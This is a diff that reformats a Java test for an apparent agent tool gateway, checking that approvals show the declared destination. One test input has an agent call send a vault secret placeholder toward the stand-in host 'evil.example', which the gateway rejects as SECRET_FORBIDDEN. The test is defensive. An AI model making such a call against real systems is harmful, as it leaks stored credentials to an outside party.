@@ -22,7 +22,8 @@ class DeclaredDestinationTest {
     private Path data = Path.of("");
 
     @Test
-    @DisplayName("P8, P9: the argument that the configuration names is the destination that a person sees and rules hold for")
+    @DisplayName(
+            "P8, P9: the argument that the configuration names is the destination that a person sees and rules hold for")
     void theDeclaredArgumentIsTheDestination() throws Exception {
         RunningGateway.configure(data, Map.of());
         List<String> command = ScriptedServer.command();
@@ -50,15 +51,19 @@ class DeclaredDestinationTest {
             assertThat(bound.exitCode()).isZero();
 
             CompletableFuture<JsonValue> call = agent.callLater(
-                    "s__mirror", "{\"request\":{\"peer\":\"api.example.com:5432\"},\"note\":\"https://docs.example/ {{vault:db}}\"}");
+                    "s__mirror",
+                    "{\"request\":{\"peer\":\"api.example.com:5432\"},\"note\":\"https://docs.example/ {{vault:db}}\"}");
             JsonValue approval = gateway.approveNext();
             assertThat(approval.string("destination")).isEqualTo("s → api.example.com");
             assertThat(Json.at(approval, "risk_reasons").spelling()).doesNotContain("HOST_GUESSED");
             assertThat(Agent.code(call.get(PosternProcess.PATIENCE_SECONDS, TimeUnit.SECONDS)))
                     .isNull();
 
-            assertThat(Agent.code(agent.call(
-                            "s__mirror", "{\"request\":{\"peer\":\"evil.example\"},\"url\":\"https://api.example.com/{{vault:bound}}\"}")))
+            assertThat(
+                            Agent.code(
+                                    agent.call(
+                                            "s__mirror",
+                                            "{\"request\":{\"peer\":\"evil.example\"},\"url\":\"https://api.example.com/{{vault:bound}}\"}")))
                     .isEqualTo("SECRET_FORBIDDEN");
         }
     }
